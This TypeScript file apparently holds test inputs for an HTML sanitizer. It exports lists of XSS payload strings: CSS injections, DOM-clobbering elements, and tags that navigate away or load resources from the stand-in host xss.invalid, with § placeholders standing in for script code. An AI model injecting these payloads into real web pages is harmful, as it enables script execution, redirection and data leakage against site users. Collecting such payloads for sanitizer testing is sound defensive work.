const ofStyles = [
  '<style>@import "//xss.invalid/a.css";</style>',
  '<style>body{background:url(//xss.invalid/b)}</style>',
  '<style>*{behavior:url(javascript:§)}</style>',
  '<link rel=stylesheet href="//xss.invalid/c.css">',
  '<p style="background:url(//xss.invalid/d)">x</p>',
  '<p style="background-image:url(javascript:§)">x</p>',
  '<p style="width:expression(§)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationend="§">x</p>',
  '<style onload="§"></style>',
  '<link rel=import href="//xss.invalid/e.html">',
  '<link rel=prefetch href="//xss.invalid/f">',
] as const;

/** HTML elements whose id would define a global variable `xssClobber` (DOM clobbering). */
const clobbers = ['a', 'img', 'form', 'input', 'iframe', 'p'].flatMap((tag) => [
  `<${tag} id=xssClobber>x</${tag}>`,
  `<${tag} id=xssClobber name=xssClobber>x</${tag}>`,
]);
const clobberMore = [
  '<form name=xssClobber><input name=action></form>',
  '<a id=xssClobber></a><a id=xssClobber name=href></a>',
  '<form id=root></form>',
  '<div id=waiting><img name=getElementById></div>',
] as const;

const navigating = [
  '<base href="//xss.invalid/">',
  '<base target="_blank">',
  '<meta http-equiv="refresh" content="0;url=//xss.invalid/">',
  '<meta http-equiv="refresh" content="0;url=javascript:§">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<meta charset="utf-7">+ADw-script+AD4-§+ADw-/script+AD4-',
  '<iframe srcdoc="<script>parent.§</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.§&gt;"></iframe>',
  '<iframe src="//xss.invalid/"></iframe>',
  '<img srcset="//xss.invalid/a 1x, x 2x" onerror="§">',
  '<picture><source srcset="//xss.invalid/b"><img src=x onerror="§"></picture>',
  '<video poster="//xss.invalid/c"><source onerror="§"></video>',
  '<a href="#" ping="//xss.invalid/d">x</a>',
  '<form action="//xss.invalid/"><input type=submit></form>',
  '<input type=image src=x onerror="§">',
  '<a href="//xss.invalid/" target=_blank rel=opener>x</a>',
  '<embed src="//xss.invalid/e">',
  '<object data="data:text/html,<script>§</script>"></object>',
  '<frameset onload="§"><frame src="javascript:§"></frameset>',
  '<portal src="//xss.invalid/"></portal>',
] as const;

/**
 * Payloads that do more than run a script: they change styles, contact other hosts, navigate away or shadow globals.
 */
export const reachingPayloads: readonly string[] = [...ofStyles, ...clobbers, ...clobberMore, ...navigating];
